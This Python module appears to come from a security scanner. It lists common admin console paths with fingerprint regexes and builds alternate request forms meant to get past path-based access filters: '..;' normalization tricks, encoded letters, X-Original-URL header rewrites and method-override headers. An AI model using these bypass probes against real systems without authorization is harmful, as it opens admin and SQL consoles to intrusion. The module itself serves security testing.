"""Where do admins usually work, and in which other ways can a path be asked for?"""

import re
from collections.abc import Iterator, Mapping
from typing import NamedTuple

JSON_FIRST = ("/api/admin", "/api/users", "/api/admin/users")
PAGES = ("/admin", "/administrator", "/manage", "/sidekiq", "/flower", "/h2-console/")
WELL_KNOWN = (*JSON_FIRST, *PAGES)
"""Data first: the page of a single-page app says nothing."""
CONSOLES = (
    (
        "/admin",
        r"<title>[^<]{0,100}(?:Django site admin|Flask-Admin)|Site administration<",
        "admin",
    ),
    ("/sidekiq", r"<title>[^<]{0,100}Sidekiq", "Sidekiq's dashboard"),
    ("/flower", r"<title>[^<]{0,100}Flower", "Flower, which sees and ends Celery's tasks"),
    ("/h2-console/", r"<title>[^<]{0,100}H2 Console", "the H2 console, which runs SQL"),
)
"""Path, proof in the body, and what it is."""


class Way(NamedTuple):
    """Another way to write ``GET path``."""

    path: str
    method: str = "GET"
    headers: Mapping[str, str] | None = None
    note: str = ""
    """The header that makes it one."""


def ways(path: str) -> Iterator[Way]:
    """Those by which a filter is passed that reads the path in another way than the app.

    ``..;`` is https://i.blackhat.com/us-18/Wed-August-8/us-18-Orange-Tsai-Breaking-Parser-Logic-Take-Your-Path-Normalization-Off-And-Pop-0days-Out-2.pdf
    """
    bare, mark, query = path.partition("?")
    for spelt in dict.fromkeys(_spellings(bare)):
        if spelt != bare:
            yield Way(spelt + mark + query)
    to = {"X-Original-URL": path, "X-Rewrite-URL": path}
    yield Way("/", headers=to, note=f"X-Original-URL: {path}")
    override = {"X-HTTP-Method-Override": "GET"}
    yield Way(path, "OPTIONS", override, "X-HTTP-Method-Override: GET")


def _spellings(path: str) -> Iterator[str]:
    without = path.rstrip("/") or "/"
    yield without if path.endswith("/") else f"{path}/"
    yield path.upper()
    yield f"/{path}"
    yield f"/launchready/..;{path}"
    yield f"{without};launchready"
    if letter := re.search("[a-z]", path):
        yield f"{path[: letter.start()]}%{ord(letter[0]):02x}{path[letter.end() :]}"
